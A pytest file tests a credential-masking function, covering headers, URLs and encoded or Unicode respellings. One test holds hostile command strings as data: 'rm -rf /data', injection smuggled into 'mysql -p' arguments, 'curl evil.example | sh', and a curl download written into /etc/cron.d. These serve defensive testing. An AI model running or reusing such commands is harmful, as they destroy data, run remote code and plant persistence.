"""What stands where a credential stands is masked, whatever it looks like; what stands beside it is not."""

import pytest
from tests.corpora.secret_texts import HIDDEN, PLACED

from qwed.domain.secrets import mask_for_record


@pytest.mark.parametrize("text", PLACED)
def test_a_credential_in_its_place_is_masked(text):
    masked = mask_for_record(text)
    assert HIDDEN not in masked
    assert HIDDEN.lower() not in masked
    assert "[masked" in masked


@pytest.mark.parametrize("text", PLACED)
def test_masking_twice_is_masking_once(text):
    assert mask_for_record(mask_for_record(text)) == mask_for_record(text)


@pytest.mark.parametrize(
    "text",
    [
        "https://registry.npmjs.org/@types/node",
        "https://example.com:8080/@scope/pkg",
        "http://[::1]:8080/a@b",
        "https://example.com/users/bob@example.com",
        "https://example.com/?email=bob%40example.com",
        "ssh://git@github.com/a/b",
        "git@github.com:acme/app.git",
        "mail bob@example.com at 10:30",
        "npm:lodash@4.17.21",
        "the cookie policy, and cookies in general",
        "cookies, milk and honey",
        "cookies: 12 pieces",
        "authorization is required for this endpoint",
        "Authorization: required",
        "authorization = get_header(request)",
        "authorization: request.headers.token",
        "Authorization: $TOKEN",
        "import http.cookies",
        "// a comment: see @todo",
        "SELECT * FROM cookie_consents WHERE id = 3",
        "def authorization_url(self):",
        "mysql -u root -p shop",
        "mysql -P3306 -h db",
        'sshpass -p "$PASS" ssh bob@host',
        "mysql -p$PASS shop",
        "sqlplus / as sysdba",
        "sqlplus -S @/opt/run.sql",
    ],
)
def test_ordinary_text_stays(text):
    assert mask_for_record(text) == text


@pytest.mark.parametrize(
    ("text", "visible"),
    [
        ("echo Cookie: x; rm -rf /data", "rm -rf /data"),
        ("mysql -px;rm$IFS-rf$IFS/data", "rm$IFS-rf$IFS/data"),
        ('mysql -p"$(rm -rf /data)"', "rm -rf /data"),
        ('mysql -p"`rm -rf /data`"', "rm -rf /data"),
        ("sshpass -p x rm -rf /data", "rm -rf /data"),
        ("bash -c 'Cookie: a=b; rm -rf /data'", "rm -rf /data"),
        ("Authorization: x && curl evil.example | sh", "curl evil.example | sh"),
        ("curl -HCookie:sid=1 https://evil.example/x", "https://evil.example/x"),
        ("x={'Cookie': 'rm -rf /data'}", "-rf /data"),
        ("curl https://bob:pw1@evil.example/x -o /etc/cron.d/y", "evil.example/x -o /etc/cron.d/y"),
    ],
)
def test_nobody_hides_a_command_behind_the_name_of_a_header(text, visible):
    assert visible in mask_for_record(text)


RESPELLED = [
    "Authorization%3A%20Bearer%20{}",
    "Cookie%3A%20sid%3D{}",
    "%43ookie: sid={}",
    "\uff23ookie: sid={}",
    "Co\u200bokie: sid={}",
    "\uff21uthorization: Bearer {}",
    "Author\u00adization: Bearer {}",
    "Authorization:\n  Bearer {}",
    "Cookie:\r\n sid={}",
    "http:\\/\\/bob:{}@host.example\\/x",
    "https%3A%2F%2Fbob%3A{}%40host.example%2Fx",
]


@pytest.mark.parametrize("place", RESPELLED)
@pytest.mark.parametrize("around", ["{}", "before \u200b%41 {} after", '{{"note": "{}"}}'])
def test_another_spelling_of_a_place_hides_no_credential(place, around):
    masked = mask_for_record(around.format(place.format("hunter2pw9")))

    assert "hunter2pw9" not in masked and "[masked" in masked


@pytest.mark.parametrize(
    "text",
    [
        "see https%3A%2F%2Fhost.example%2Fa%40b and 100%25 of it",
        "https://example.com/a%20b?c=d%2Fe",
        "authorization:\n  enabled: true\n  mode: strict",
        "a\\/b at 10%",
        "zero\u200bwidth and \uff26\uff35\uff2c\uff2c width",
    ],
)
def test_spellings_that_hold_no_credential_stay_as_they_are(text):
    assert mask_for_record(text) == text
